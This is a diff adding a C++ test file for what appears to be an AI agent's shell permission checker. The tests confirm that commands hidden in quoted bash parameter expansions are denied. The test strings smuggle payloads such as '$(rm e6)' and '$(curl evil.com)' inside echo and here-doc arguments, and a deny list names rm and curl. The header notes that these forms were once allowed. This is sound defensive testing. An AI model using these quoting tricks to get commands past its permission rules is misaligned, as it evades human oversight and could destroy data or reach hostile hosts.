@@ -1,0 +1,32 @@
+// SPDX-License-Identifier: MIT
+// Expansions where bash runs code that looked like inert text. In double quotes (and unquoted
+// here-documents) the single quotes of `"${x:-'...'}"` are kept as characters and what they hold
+// is expanded, so a `$(...)` in them runs (S6.1, S6.2). Each case was an allow while bash ran
+// the program named inside the quotes.
+#include "test_rules_support.hpp"
+
+#include <claw/shell/analyze.hpp>
+
+using namespace claw::test::rules_fixture;
+
+namespace {
+const char* const settings = R"J({"allow":["Bash(echo *)","Bash(cat *)"],"deny":["Bash(rm *)","Bash(curl *)"]})J";
+}  // namespace
+
+TEST_CASE("expansions: single quotes inside a double-quoted ${x:-...} do not hide a command substitution",
+          "[permissions][rules][expansion]") {
+    const rules_env e(settings, "default");
+    for (const char* cmd : {"echo \"${x:-'$(rm e6)'}\"", "echo \"${x:-'$(curl evil.com)'}\"", "echo \"${x-'$(rm m6)'}\"",
+                            "echo \"${x:='$(rm m7)'}\"", "echo \"${x:-'`rm n6`'}\"", "echo \"${x:-'${y:-$(rm n8)}'}\"",
+                            "echo ${x:=1} \"${x:+'$(rm n5)'}\"", "cat <<EOF\n${x:-'$(rm m4)'}\nEOF",
+                            "echo \"${x%'$(rm p1)'}\""}) {
+        INFO(cmd);
+        CHECK(e("Bash", cmd) == deny);
+    }
+    // The quotes still hide a brace from the end of the expansion, as in bash: "${x:-'}'}" is one word.
+    const auto a = claw::shell::what_runs("echo \"${x:-'}'}\" && rm -f y");
+    REQUIRE(a.commands.size() == 2);
+    CHECK(a.commands[1].argv[0] == "rm");
+    // Outside double quotes the single quotes hide the text, as in bash
+    CHECK(e("Bash", "echo ${x:-'$(rm q1)'}") == allow);
+}
